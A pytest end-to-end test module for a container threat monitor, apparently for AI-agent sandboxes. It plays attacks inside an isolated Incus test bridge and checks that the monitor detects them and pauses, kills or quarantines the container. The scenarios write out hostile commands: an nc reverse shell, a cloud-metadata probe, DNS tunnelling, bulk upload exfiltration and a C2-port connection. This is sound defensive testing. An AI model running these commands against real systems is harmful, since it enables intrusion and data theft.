"""End to end, for real: every threat class in a real container, with its expected response,
and an honest workload that must end untouched (issue 5, item 5).

The bed (one per module): an Incus bridge ``coi-tb<hex>`` on ``198.18.X.0/24`` (X random; no
NAT, DHCP, DNS or routing; ``ipv4.firewall=false`` as well: with ``br_netfilter`` loaded,
bridged frames go through the inet forward hook, where Incus's "routing off" rules reject
them, so container-to-container traffic would never reach the victim), and on its address
``198.18.X.1`` only, servers run by this module: a fake resolver (UDP 53: an A record in the
bridge's /24 for a few well-known names, NXDOMAIN for the rest), a TCP sink that counts
bytes, a small HTTP server and a listener for the reverse shell. A *victim* container on the
bridge (its name does not match the pattern, so it is not watched) carries the sensitive
addresses on its own eth0: the cloud metadata address 169.254.169.254/32 and a private
address 10.77.0.5/32, and serves HTTP on ports 22 and 80. Attacker containers route those
two /32s on-link (``dev eth0``), so their packets cross the bridge to the victim and nothing
leaves the machine; the root namespace's addresses and routes are never touched.

One ``coi-watch watch --json --pattern 'coi-e2e-th-*' --config FILE`` follows Incus
lifecycle events for the whole module; each scenario launches its own attacker
``coi-e2e-th-<hex>`` (static address ``198.18.X.(10+k)``), waits for the supervisor's
"sources attached to NAME" note, plays the threat, and checks the container's state in
Incus, the verdict and action records in its audit file, and ``coi-watch audit verify``.

The module's config sets ``[detectors.destinations] private_action = "quarantine"`` with
``[response] quarantine_permitted = ["198.18.X.1/32"]`` (the bridge's servers stay
reachable, as a package mirror would be); the private-network pause with the default config
gets a watcher of its own (pattern ``coi-e2e-tp-*``). 198.18.0.0/15 counts as a public
destination for the exfiltration detector (only RFC 1918, CGNAT, link-local and ULA are
"private" there), so the upload to the sink needs no ``include_private``.
"""

from __future__ import annotations

import contextlib
import ipaddress
import os
import secrets
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

pytestmark = [pytest.mark.incus, pytest.mark.privileged]

METADATA = "169.254.169.254"
PRIVATE = "10.77.0.5"
PATTERN = "coi-e2e-th-*"
PREFIX = "coi-e2e-th"
PAUSE_PREFIX = "coi-e2e-tp"  # the default-config watcher's containers (outside PATTERN)
SOURCES = "proc, nflog, conntrack, fanotify"
ENV_DUMP_RULE = "sigma:06cc1adf-1c3f-4e2d-aa33-3fcda0d13fab"  # "Environment Dumped", medium
# The destinations detector's default C2 ports: a port of ours among them would add a
# verdict of its own (bind(0) can hand out 50050).
C2_PORTS = {1234, 1337, 4444, 5555, 12345, 31337, 50050, *range(6666, 6698)}
# Names the fake resolver answers with the bridge address (the rest get NXDOMAIN).
KNOWN_NAMES = {"pypi.org", "files.pythonhosted.org", "github.com", "api.github.com"}
MiB = 1 << 20


# ----------------------------------------------------------------------------- servers


def _bind(sock: socket.socket, host: str) -> int:
    """Bind ``sock`` to ``host`` on a free port that is not a C2 port; the port."""
    for _ in range(20):
        probe = socket.socket(sock.family, sock.type)
        probe.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        probe.bind((host, 0))
        port = int(probe.getsockname()[1])
        probe.close()
        if port not in C2_PORTS:
            with contextlib.suppress(OSError):
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                sock.bind((host, port))
                return port
    raise RuntimeError(f"no free port on {host}")


def dns_answer(query: bytes, address: str) -> bytes | None:
    """The answer to a DNS ``query``: ``address`` for an A question about a known name, an
    empty NOERROR for its other types, NXDOMAIN for any other name; ``None`` if malformed."""
    if len(query) < 17:
        return None
    labels, pos = [], 12
    while pos < len(query) and query[pos]:
        n = query[pos]
        labels.append(query[pos + 1:pos + 1 + n].decode("ascii", "replace"))
        pos += n + 1
    end = pos + 5  # the root label, QTYPE, QCLASS
    if end > len(query):
        return None
    qtype = int.from_bytes(query[pos + 1:pos + 3], "big")
    known = ".".join(labels).lower().rstrip(".") in KNOWN_NAMES
    answers = b""
    if known and qtype == 1:
        answers = (b"\xc0\x0c" + (1).to_bytes(2, "big") + (1).to_bytes(2, "big")
                   + (60).to_bytes(4, "big") + (4).to_bytes(2, "big")
                   + ipaddress.IPv4Address(address).packed)
    rcode = 0 if known else 3
    flags = 0x8000 | (query[2] << 8 & 0x0100) | 0x0080 | rcode  # QR, RD copied, RA
    header = (query[:2] + flags.to_bytes(2, "big") + b"\x00\x01"
              + (1 if answers else 0).to_bytes(2, "big") + bytes(4))
    return header + query[12:end] + answers


class _Quiet(BaseHTTPRequestHandler):
    body = b"<html><body>simple index: coi-e2e</body></html>\n"
    hits: list[str]

    def do_GET(self) -> None:
        self.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(self.body)))
        self.end_headers()
        self.wfile.write(self.body)

    def log_message(self, *args: Any) -> None:
        pass


class Servers:
    """Fake resolver, TCP sink, HTTP server and reverse-shell listener on ``host`` only."""

    def __init__(self, host: str) -> None:
        self.host = host
        self.stop = threading.Event()
        self.queries: list[bytes] = []
        self.sunk = 0
        self.shells: list[socket.socket] = []
        self.http_hits: list[str] = []
        self._lock = threading.Lock()
        self._socks: list[socket.socket] = []
        self.udp = self._sock(socket.SOCK_DGRAM)
        self.udp.bind((host, 53))  # dns.mode=none: port 53 on the bridge address is free
        self.sink = self._sock(socket.SOCK_STREAM)
        self.sink_port = _bind(self.sink, host)
        self.listener = self._sock(socket.SOCK_STREAM)
        self.shell_port = _bind(self.listener, host)
        for s in (self.sink, self.listener):
            s.listen(16)
        handler = type("Handler", (_Quiet,), {"hits": self.http_hits})
        self.http = ThreadingHTTPServer((host, 0), handler)
        self.http.daemon_threads = True
        while self.http.server_address[1] in C2_PORTS:  # pragma: no cover (rare)
            self.http.server_close()
            self.http = ThreadingHTTPServer((host, 0), handler)
        self.http_port = int(self.http.server_address[1])
        self.threads = [threading.Thread(target=f, daemon=True)
                        for f in (self._dns, self._sink, self._shells, self.http.serve_forever)]
        for t in self.threads:
            t.start()

    def _sock(self, kind: int) -> socket.socket:
        s = socket.socket(socket.AF_INET, kind)
        s.settimeout(0.2)
        self._socks.append(s)
        return s

    def _dns(self) -> None:
        while not self.stop.is_set():
            try:
                data, peer = self.udp.recvfrom(4096)
            except TimeoutError:
                continue
            except OSError:
                return
            self.queries.append(data)
            reply = dns_answer(data, self.host)
            if reply is not None:
                with contextlib.suppress(OSError):
                    self.udp.sendto(reply, peer)

    def _sink(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sink.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            threading.Thread(target=self._drain, args=(conn,), daemon=True).start()

    def _drain(self, conn: socket.socket) -> None:
        with conn:
            conn.settimeout(1)
            while not self.stop.is_set():
                try:
                    data = conn.recv(1 << 16)
                except TimeoutError:
                    continue
                except OSError:
                    return
                if not data:
                    return
                with self._lock:
                    self.sunk += len(data)

    def _shells(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.listener.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            self.shells.append(conn)  # kept open: the shell's stdin/stdout

    def close(self) -> None:
        self.stop.set()
        self.http.shutdown()
        self.http.server_close()
        for t in self.threads:
            t.join(2)
        for s in [*self._socks, *self.shells]:
            s.close()


# ----------------------------------------------------------------------------- the bed


@dataclass
class Bed:
    e2e: Any
    bridge: str
    x: int
    servers: Servers
    watcher: Any
    audit_dir: Path
    config: Path
    victim: str = ""
    _next: int = 10
    timings: dict[str, float] = field(default_factory=dict)

    @property
    def gw(self) -> str:
        return f"198.18.{self.x}.1"

    def address(self) -> str:
        self._next += 1
        return f"198.18.{self.x}.{self._next}"

    @contextlib.contextmanager
    def attacker(self, watcher: Any = None, prefix: str = PREFIX) -> Iterator[str]:
        """A container on the bridge, fully watched, with a static address and on-link
        routes to the victim's sensitive addresses."""
        watcher = watcher or self.watcher
        with self.e2e.container(prefix, network=self.bridge) as name:
            note = watcher.wait_line(lambda r: r.get("kind") == "note" and str(
                r.get("message", "")).startswith((f"sources attached to {name}:",
                                                  f"not watching {name}:")), timeout=30)
            assert note is not None, f"{name} never attached: {watcher.lines[-10:]}"
            assert str(note["message"]).endswith(SOURCES), note
            self.sh(name, f"ip link set lo up; ip addr add {self.address()}/24 dev eth0; "
                          f"ip link set eth0 up; ip route add {METADATA}/32 dev eth0; "
                          f"ip route add {PRIVATE}/32 dev eth0")
            yield name

    def sh(self, name: str, script: str, *, check: bool = True,
           timeout: float = 60) -> subprocess.CompletedProcess[str]:
        done = subprocess.run(["incus", "exec", name, "--", "sh", "-c", script],
                              capture_output=True, text=True, timeout=timeout, check=False)
        if check and done.returncode:
            raise AssertionError(f"{script!r} in {name}: rc={done.returncode} "
                                 f"{done.stdout} {done.stderr}")
        return done

    def spawn(self, name: str, script: str) -> subprocess.Popen[bytes]:
        return subprocess.Popen(["incus", "exec", name, "--", "sh", "-c", script],
                                stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                stderr=subprocess.DEVNULL)

    def wait_status(self, name: str, want: str, timeout: float) -> bool:
        return bool(self.e2e.wait_for(lambda: self.e2e.status(name) == want, timeout=timeout,
                                      interval=0.05))

    def wait_action(self, name: str, action: str, timeout: float = 15,
                    watcher: Any = None) -> dict[str, object]:
        """The supervisor's action line for ``name`` (any status), waiting for it."""
        watcher = watcher or self.watcher
        rec: dict[str, object] | None = watcher.wait_line(
            lambda r: r.get("kind") == "action" and r.get("container") == name
            and r.get("action") == action, timeout)
        assert rec is not None, (f"no {action} action for {name}: "
                                 f"{watcher.for_container(name)}")
        return rec

    def records(self, name: str, audit_dir: Path | None = None) -> list[dict[str, Any]]:
        return list(self.e2e.audit_records((audit_dir or self.audit_dir) / f"{name}.jsonl"))

    def verify(self, name: str, audit_dir: Path | None = None) -> None:
        path = (audit_dir or self.audit_dir) / f"{name}.jsonl"
        done = subprocess.run([*self.e2e.COI_WATCH, "audit", "verify", str(path)],
                              capture_output=True, text=True, timeout=60)
        assert done.returncode == 0, done.stdout + done.stderr


def verdicts(records: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [r["data"] for r in records if r["kind"] == "verdict"]


def actions(records: list[dict[str, Any]]) -> list[tuple[str, str]]:
    return [(r["data"]["action"], r["data"]["status"]) for r in records if r["kind"] == "action"]


def summary(records: list[dict[str, Any]]) -> str:
    """Verdicts and actions, for assertion messages."""
    out = [f"{v['severity']} {v['detector']}: {v['title']} {v.get('evidence')}"
           for v in verdicts(records)]
    out += [f"action {a} {s}" for a, s in actions(records)]
    return "\n".join(out) or "(no verdicts, no actions)"


def _free_x() -> int:
    routes = subprocess.run(["ip", "-4", "route"], capture_output=True, text=True,
                            check=True).stdout
    for _ in range(50):
        x = secrets.randbelow(253) + 2
        if f"198.18.{x}." not in routes:
            return x
    raise RuntimeError("no free 198.18.X.0/24")


def _write_config(path: Path, extra: str = "") -> None:
    # The default run_dir (~/.coi/run) on purpose: its per-container locks keep a second
    # supervisor (another test run's ``coi-*`` watcher) off our containers, or tell us so.
    path.write_text(extra)


@pytest.fixture(scope="module")
def bed(e2e: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Bed]:
    tmp = tmp_path_factory.mktemp("threats")
    tag = secrets.token_hex(3)
    bridge, victim = f"coi-tb{tag}", f"e2e-victim-{tag}"  # outside every coi-* pattern
    made_net = made_victim = False
    servers = watcher = None
    try:
        for _ in range(5):  # another test may hold this /24: pick again
            x = _free_x()
            done = e2e.incus("network", "create", bridge, f"ipv4.address=198.18.{x}.1/24",
                             "ipv4.nat=false", "ipv6.address=none", "ipv4.dhcp=false",
                             "ipv4.routing=false", "dns.mode=none", "ipv4.firewall=false",
                             check=False, timeout=120)
            if done.returncode == 0:
                made_net = True
                break
        assert made_net, done.stderr
        gw = f"198.18.{x}.1"
        servers = Servers(gw)
        # The victim: not watched (outside the pattern); the sensitive addresses are its own.
        e2e.incus("launch", e2e_image(), victim, "--network", bridge, timeout=120)
        made_victim = True
        done = subprocess.run(
            ["incus", "exec", victim, "--", "sh", "-c",
             f"ip link set lo up; ip addr add 198.18.{x}.5/24 dev eth0; "
             f"ip addr add {METADATA}/32 dev eth0; ip addr add {PRIVATE}/32 dev eth0; "
             "ip link set eth0 up; mkdir -p /srv && echo victim-ok > /srv/index.html && "
             "busybox httpd -p 22 -h /srv && busybox httpd -p 80 -h /srv"],
            capture_output=True, text=True, timeout=60, check=False)
        assert done.returncode == 0, done.stderr
        config = tmp / "config.toml"
        _write_config(config, (
            "[detectors.destinations]\n"
            '# Private network -> quarantine instead of the ladder\'s pause (issue 5).\n'
            'private_action = "quarantine"\n\n'
            "[response]\n"
            f'quarantine_permitted = ["{gw}/32"]\n'))
        audit_dir = tmp / "audit"
        watcher = e2e.LiveWatcher("--pattern", PATTERN, "--config", str(config),
                                  audit_dir=audit_dir)
        watcher.wait_note("ready", timeout=30)
        b = Bed(e2e, bridge, x, servers, watcher, audit_dir, config, victim)
        yield b
        print("\nscenario timings (s): " + ", ".join(f"{k} {v:.2f}"
                                                      for k, v in b.timings.items()))
    finally:
        rc = watcher.stop() if watcher is not None else 0
        if servers is not None:
            servers.close()
        if made_victim:
            e2e.incus("delete", "--force", victim, check=False, timeout=120)
        if made_net:
            e2e.incus("network", "delete", bridge, check=False, timeout=120)
    assert rc == 0, "".join(watcher.errors)[-3000:] if watcher is not None else ""


def e2e_image() -> str:
    return os.environ.get("COI_TESTBED_IMAGE", "coi-bb")


def _no_response(acts: list[tuple[str, str]]) -> bool:
    return not [a for a, _ in acts if a in ("pause", "kill", "quarantine")]


# ----------------------------------------------------------------------------- scenarios


def test_reverse_shell_to_a_listener_is_killed(bed: Bed) -> None:
    with bed.attacker() as name:
        t0 = time.monotonic()
        shell = bed.spawn(name, f"nc {bed.gw} {bed.servers.shell_port} -e /bin/sh; sleep 30")
        try:
            stopped = bed.wait_status(name, "Stopped", timeout=15)
            bed.timings["reverse_shell"] = time.monotonic() - t0
            bed.wait_action(name, "kill")
        finally:
            shell.kill()
            shell.wait(10)
        records = bed.records(name)
        assert stopped, summary(records)
        # Killed on the command line (nc -e: critical) or on the connected shell, whichever
        # comes first: the listener may or may not have seen the connection.
        vs = verdicts(records)
        assert vs and vs[0]["detector"] == "reverse_shell", summary(records)
        assert vs[0]["severity"] == "critical"
        acts = actions(records)
        assert ("pause", "done") in acts and ("kill", "done") in acts, acts
        bed.verify(name)


def test_cloud_metadata_address_is_killed(bed: Bed) -> None:
    with bed.attacker() as name:
        t0 = time.monotonic()
        probe = bed.spawn(name, f"nc -w 1 {METADATA} 80 </dev/null; sleep 30")
        try:
            stopped = bed.wait_status(name, "Stopped", timeout=15)
            bed.timings["metadata"] = time.monotonic() - t0
            bed.wait_action(name, "kill")
        finally:
            probe.kill()
            probe.wait(10)
        records = bed.records(name)
        assert stopped, summary(records)
        (v,) = [v for v in verdicts(records) if v["severity"] == "critical"]
        assert v["detector"] == "destinations" and METADATA in str(v), v
        assert "metadata" in v["dedup_key"], v
        acts = actions(records)
        assert ("pause", "done") in acts and ("kill", "done") in acts, acts
        bed.verify(name)


def _dns_tunnel(bed: Bed, names: str, key: str) -> tuple[str, list[dict[str, Any]], bool]:
    """Look up 150 names under ``tun.example`` (``names``: a shell word using ``$i``) from
    an attacker; its name, audit records and whether it was frozen."""
    script = (f"i=0; while [ $i -lt 150 ]; do nslookup {names}.tun.example {bed.gw} "
              ">/dev/null 2>&1; i=$((i+1)); done; sleep 30")
    with bed.attacker() as name:
        t0 = time.monotonic()
        loop = bed.spawn(name, script)
        try:
            high = bed.watcher.wait_line(lambda r: r.get("kind") == "verdict" and r.get(
                "container") == name and r.get("severity") == "high", timeout=30)
            frozen = high is not None and bed.wait_status(name, "Frozen", timeout=5)
            bed.timings[key] = time.monotonic() - t0
            if frozen:
                bed.wait_action(name, "pause")
        finally:
            loop.kill()
            loop.wait(10)
        records = bed.records(name)
        bed.verify(name)
        return name, records, frozen


# dns_tunnel warns first (random names, from 8 queries) and goes high a fraction of a second
# later under the same dedup key: the escalation must not be swallowed as a duplicate.
def test_dns_tunnel_of_random_hex_names_is_paused(bed: Bed) -> None:
    # Random hex left parts under one zone: "random_names" trips from 8 queries (warning);
    # 100 distinct left parts ("unique_subdomains") or 100 queries ("rate", which only
    # corroborates) add a second signal: high. 150 look-ups (A and AAAA each) cross both.
    _name, records, frozen = _dns_tunnel(
        bed, "$(head -c 16 /dev/urandom | md5sum | cut -c1-32).$i", "dns_tunnel_hex")
    vs = [v for v in verdicts(records) if v["detector"] == "dns_tunnel"]
    assert vs and vs[0]["severity"] == "warning" and vs[-1]["severity"] == "high", \
        summary(records)
    assert "tun.example" in vs[-1]["dedup_key"], vs[-1]
    assert frozen, f"{len(bed.servers.queries)} queries\n{summary(records)}"
    acts = actions(records)
    assert ("pause", "done") in acts and not [a for a, _ in acts if a == "kill"], acts


def test_dns_tunnel_of_many_subdomains_is_paused(bed: Bed) -> None:
    # Short, non-random left parts: nothing trips before the 100th distinct name
    # ("unique_subdomains"), and "rate" (100 queries: A and AAAA per look-up) is already
    # over by then: two signals at once, so the first verdict is high.
    _name, records, frozen = _dns_tunnel(bed, "c$i", "dns_tunnel_subdomains")
    assert frozen, f"{len(bed.servers.queries)} queries\n{summary(records)}"
    vs = verdicts(records)
    assert [(v["detector"], v["severity"]) for v in vs][:1] == [("dns_tunnel", "high")], \
        summary(records)
    assert set(vs[0]["evidence"]["signals"]) >= {"unique_subdomains", "rate"}, vs[0]
    assert {v["severity"] for v in vs} == {"high"}, summary(records)
    acts = actions(records)
    assert ("pause", "done") in acts and not [a for a, _ in acts if a == "kill"], acts


def test_bulk_upload_is_paused(bed: Bed) -> None:
    # net_bytes_threshold_mb (100 MiB) within window_s (60 s) -> high; 198.18/15 is counted.
    with bed.attacker() as name:
        t0 = time.monotonic()
        upload = bed.spawn(name, "dd if=/dev/zero bs=1M count=120 2>/dev/null | "
                                 f"nc {bed.gw} {bed.servers.sink_port}; sleep 30")
        try:
            frozen = bed.wait_status(name, "Frozen", timeout=40)
            bed.timings["exfiltration"] = time.monotonic() - t0
            bed.wait_action(name, "pause")
        finally:
            upload.kill()
            upload.wait(10)
        records = bed.records(name)
        assert frozen, f"sink got {bed.servers.sunk} bytes\n{summary(records)}"
        assert bed.servers.sunk >= 90 * MiB, bed.servers.sunk
        vs = verdicts(records)
        assert [(v["detector"], v["severity"]) for v in vs] == [("exfiltration", "high")], \
            summary(records)
        assert vs[0]["dedup_key"].endswith(":net"), vs[0]
        acts = actions(records)
        assert ("pause", "done") in acts and not [a for a, _ in acts if a == "kill"], acts
        bed.verify(name)


def _get(bed: Bed, name: str, url: str) -> subprocess.CompletedProcess[str]:
    # Not "wget -T": busybox 1.35 (Debian) wget segfaults with -T; the timeout applet bounds it.
    return bed.sh(name, f"timeout 3 wget -q -O - {url}", check=False, timeout=30)


def test_private_network_is_quarantined_then_resumed(bed: Bed) -> None:
    victim = f"http://{PRIVATE}:22/"
    mirror = f"http://{bed.gw}:{bed.servers.http_port}/simple/"
    with bed.attacker() as name:
        t0 = time.monotonic()
        bed.sh(name, f"nc -w 1 {PRIVATE} 22 </dev/null", check=False, timeout=30)
        rec = bed.wait_action(name, "quarantine")
        bed.timings["private_quarantine"] = time.monotonic() - t0
        assert rec["status"] == "done", rec
        assert bed.e2e.status(name) == "Running"
        # Quarantined: the victim is out of reach, the permitted address is not.
        blocked = _get(bed, name, victim)  # dropped: no answer at all, not even a refusal
        assert blocked.returncode != 0 and "victim-ok" not in blocked.stdout, blocked
        assert "refused" not in blocked.stderr, blocked
        allowed = _get(bed, name, mirror)
        assert allowed.returncode == 0 and "coi-e2e" in allowed.stdout, allowed

        # Lifted through the running supervisor's control socket.
        resume = subprocess.run([*bed.e2e.COI_WATCH, "resume", name, "--config",
                                 str(bed.config), "--audit-dir", str(bed.audit_dir)],
                                capture_output=True, text=True, timeout=60)
        assert resume.returncode == 0, resume.stdout + resume.stderr
        reached = _get(bed, name, victim)
        assert reached.returncode == 0 and "victim-ok" in reached.stdout, (
            reached, bed.sh(bed.victim, "netstat -ltn; ps; ip addr", check=False).stdout)
        assert bed.e2e.status(name) == "Running"
        resumed = bed.wait_action(name, "resume")
        assert resumed["status"] == "done" and "quarantine lifted" in str(resumed["detail"]), \
            resumed

        records = bed.records(name)
        vs = verdicts(records)
        assert [(v["detector"], v["severity"]) for v in vs] == [("destinations", "high")], \
            summary(records)
        assert PRIVATE in vs[0]["dedup_key"] and ":private:" in vs[0]["dedup_key"], vs[0]
        acts = actions(records)
        assert ("quarantine", "done") in acts and ("resume", "done") in acts, acts
        assert not [a for a, _ in acts if a in ("pause", "kill")], acts
        bed.verify(name)


def test_private_network_with_the_default_config_is_paused(bed: Bed, e2e: Any) -> None:
    config = bed.config.with_name("default.toml")
    _write_config(config)
    audit_dir = bed.audit_dir.with_name("audit-default")
    watcher = e2e.LiveWatcher("--pattern", f"{PAUSE_PREFIX}-*", "--config", str(config),
                              audit_dir=audit_dir)
    try:
        watcher.wait_note("ready", timeout=30)
        with bed.attacker(watcher, PAUSE_PREFIX) as name:
            t0 = time.monotonic()
            probe = bed.spawn(name, f"nc -w 1 {PRIVATE} 22 </dev/null; sleep 30")
            try:
                frozen = bed.wait_status(name, "Frozen", timeout=15)
                bed.timings["private_pause"] = time.monotonic() - t0
                bed.wait_action(name, "pause", watcher=watcher)
            finally:
                probe.kill()
                probe.wait(10)
            records = bed.records(name, audit_dir)
            assert frozen, summary(records)
            assert [(v["detector"], v["severity"]) for v in verdicts(records)] == [
                ("destinations", "high")], summary(records)
            acts = actions(records)
            assert ("pause", "done") in acts, acts
            assert not [a for a, _ in acts if a in ("kill", "quarantine")], acts
            bed.verify(name, audit_dir)
    finally:
        rc = watcher.stop()
    assert rc == 0, "".join(watcher.errors)[-3000:]


def test_environment_dump_is_an_alert_only(bed: Bed) -> None:
    # The shell builtin form of the dump ("Environment Dumped", medium -> alert), in a shell
    # that lives for a second (the trailing "true" keeps busybox sh from exec'ing sleep),
    # so its command line is still in /proc when the exec event is enriched; a bare
    # "incus exec NAME -- env" is gone before that often enough (see the next test).
    with bed.attacker() as name:
        t0 = time.monotonic()
        done = bed.sh(name, "export -p; sleep 1; true")
        assert "export PATH=" in done.stdout or "PATH=" in done.stdout, done
        rec = bed.wait_action(name, "alert")
        bed.timings["env_scan"] = time.monotonic() - t0
        assert rec["status"] == "done", rec
        time.sleep(1.0)  # room for a (wrong) stronger response to show
        assert bed.e2e.status(name) == "Running"
        records = bed.records(name)
        vs = verdicts(records)
        # Seen by the proc source and, for an ``incus exec``, from Incus's record too (pid 0):
        # one rule, one severity, however many sightings.
        assert {(v["detector"], v["severity"]) for v in vs} == {(ENV_DUMP_RULE, "warning")}, \
            summary(records)
        acts = actions(records)
        assert ("alert", "done") in acts and _no_response(acts), acts
        bed.verify(name)


# A short-lived process (busybox env exits within a millisecond) is often gone before the proc
# source reads /proc/PID/{cmdline,exe}. Commands started with ``incus exec`` are also
# published from Incus's own record (instance-exec lifecycle events, pid 0), so every one of
# them is seen, whether or not the proc source won its race.
def test_every_short_lived_env_dump_is_seen(bed: Bed) -> None:
    with bed.attacker() as name:
        for _ in range(8):
            bed.e2e.incus("exec", name, "--", "env")
        bed.wait_action(name, "alert")
        time.sleep(0.5)
        records = bed.records(name)
        execs = [r["data"] for r in records if r["kind"] == "event"
                 and r["data"]["kind"] == "proc.exec" and r["data"].get("comm") == "env"]
        seen = [v for v in verdicts(records) if v["detector"] == ENV_DUMP_RULE]
        assert bed.e2e.status(name) == "Running"
        assert _no_response(actions(records)), summary(records)
        from_incus = [v for v in seen if v["pid"] == 0]
        assert len(from_incus) == 8, (f"{len(from_incus)} of 8 env dumps seen; exec events: "
                                      f"{[(e['argv'], e['partial']) for e in execs]}")


BENIGN = r"""
set -e
mkdir -p /root/project/src /root/project/tests /tmp/build
cd /root/project
printf '[project]\nname = "demo"\nversion = "0.1.0"\n' > pyproject.toml
round=0
while [ $round -lt 5 ]; do
  i=0
  while [ $i -lt 8 ]; do
    printf 'def f%d(x):\n    return x + %d\n' $i $round > src/mod$i.py
    printf 'from src.mod%d import f%d\nassert f%d(1) == %d\n' $i $i $i $((round + 1)) \
      > tests/test_mod$i.py
    i=$((i + 1))
  done
  ls -la src tests > /tmp/build/listing.txt
  grep -rn "return" src | wc -l > /tmp/build/count.txt
  wc -c src/*.py tests/*.py > /tmp/build/sizes.txt
  cat src/mod1.py pyproject.toml > /dev/null
  sh -c 'sort /tmp/build/sizes.txt | head -n 3 > /tmp/build/smallest.txt'
  sh -c "sed -n 1p src/mod0.py | tr a-z A-Z > /tmp/build/upper.txt"
  find . -name '*.py' | wc -l > /tmp/build/nfiles.txt
  tar -czf /tmp/build/src.tgz src tests
  for n in pypi.org github.com; do nslookup $n GW > /dev/null 2>&1 || true; done
  timeout 5 wget -q -O /tmp/build/index$round.html http://GW:PORT/simple/demo-$round/
  echo "round $round done" >> /tmp/build/log.txt
  round=$((round + 1))
  sleep 1.6
done
nslookup files.pythonhosted.org GW > /dev/null 2>&1 || true
nslookup no-such-host.invalid GW > /dev/null 2>&1 || true
cat /tmp/build/log.txt
"""


def test_honest_agent_work_is_left_alone(bed: Bed) -> None:
    script = BENIGN.replace("GW", bed.gw).replace("PORT", str(bed.servers.http_port))
    with bed.attacker() as name:
        t0 = time.monotonic()
        done = bed.sh(name, script, check=False, timeout=90)
        bed.timings["benign"] = time.monotonic() - t0
        assert done.returncode == 0 and "round 4 done" in done.stdout, done
        assert len(bed.servers.http_hits) >= 5
        time.sleep(3.0)  # a conntrack counter dump (every 2 s) and the detectors after it
        records = bed.records(name)
        assert bed.e2e.status(name) == "Running", summary(records)
        vs = verdicts(records)
        # Any verdict at all here is a false positive of the detector or rule it names.
        assert not vs, summary(records)
        assert _no_response(actions(records)), summary(records)
        assert not [r for r in bed.watcher.for_container(name) if r.get("kind") == "verdict"]
        bed.verify(name)


ALLOW_PREFIX = "coi-e2e-ta"  # the allowlist watcher's containers (outside PATTERN)


def test_c2_port_connection_is_paused(bed: Bed) -> None:
    # A connection to a known C2 port (4444: Metasploit's default) on a test host: high.
    with bed.attacker() as name:
        probe = bed.spawn(name, f"nc -w 1 {bed.gw} 4444 </dev/null; sleep 30")
        try:
            frozen = bed.wait_status(name, "Frozen", timeout=15)
            bed.wait_action(name, "pause")
        finally:
            probe.kill()
            probe.wait(10)
        records = bed.records(name)
        assert frozen, summary(records)
        vs = verdicts(records)
        assert ("destinations", "high") in {(v["detector"], v["severity"]) for v in vs}, \
            summary(records)
        assert any("4444" in str(v["evidence"]) for v in vs), summary(records)
        acts = actions(records)
        assert ("pause", "done") in acts and not [a for a, _ in acts if a == "kill"], acts
        bed.verify(name)


def test_large_workspace_read_is_paused(bed: Bed) -> None:
    # Six 10 MiB files written slowly (under every write threshold), then read back in one
    # go: 60 MiB read within the 2 s window crosses file_read_threshold_mb (50): high.
    with bed.attacker() as name:
        bed.sh(name, "mkdir -p /root/work; i=0; while [ $i -lt 6 ]; do "
                     "dd if=/dev/zero of=/root/work/part$i bs=1M count=10 2>/dev/null; "
                     "sleep 1.2; i=$((i+1)); done", timeout=120)
        assert bed.e2e.status(name) == "Running", summary(bed.records(name))
        reader = bed.spawn(name, "cat /root/work/part* > /dev/null; sleep 30")
        try:
            frozen = bed.wait_status(name, "Frozen", timeout=15)
            bed.wait_action(name, "pause")
        finally:
            reader.kill()
            reader.wait(10)
        records = bed.records(name)
        assert frozen, summary(records)
        vs = [v for v in verdicts(records) if v["detector"] == "exfiltration"]
        assert vs and vs[0]["severity"] == "high", summary(records)
        assert "read" in vs[0]["dedup_key"] or "read" in vs[0]["title"].lower(), vs[0]
        acts = actions(records)
        assert ("pause", "done") in acts and not [a for a, _ in acts if a == "kill"], acts
        bed.verify(name)


def test_allowlist_violation_is_paused(bed: Bed, e2e: Any) -> None:
    # Allowlist mode: the gateway is allowed; the victim's test-bridge address is not (and
    # is no private address, so only the allowlist speaks).
    config = bed.config.with_name("allowlist.toml")
    _write_config(config, ("[detectors.allowlist]\n"
                           'network_mode = "allowlist"\n'
                           f'allow = ["{bed.gw}/32", "pypi.org"]\n'))
    audit_dir = bed.audit_dir.with_name("audit-allowlist")
    watcher = e2e.LiveWatcher("--pattern", f"{ALLOW_PREFIX}-*", "--config", str(config),
                              audit_dir=audit_dir)
    try:
        watcher.wait_note("ready", timeout=30)
        with bed.attacker(watcher, ALLOW_PREFIX) as name:
            allowed = bed.sh(name, f"nc -w 1 {bed.gw} {bed.servers.sink_port} </dev/null; true")
            del allowed
            time.sleep(0.5)
            assert bed.e2e.status(name) == "Running", summary(bed.records(name, audit_dir))
            probe = bed.spawn(name, f"timeout 3 wget -q -O /dev/null http://198.18.{bed.x}.5/; "
                                    "sleep 30")
            try:
                frozen = bed.wait_status(name, "Frozen", timeout=15)
                bed.wait_action(name, "pause", watcher=watcher)
            finally:
                probe.kill()
                probe.wait(10)
            records = bed.records(name, audit_dir)
            assert frozen, summary(records)
            vs = verdicts(records)
            assert [(v["detector"], v["severity"]) for v in vs] == [("allowlist", "high")], \
                summary(records)
            assert vs[0]["evidence"].get("dst", str(vs[0]["evidence"])).find(
                f"198.18.{bed.x}.5") >= 0, vs[0]
            bed.verify(name, audit_dir)
    finally:
        rc = watcher.stop()
    assert rc == 0, "".join(watcher.errors)[-3000:]
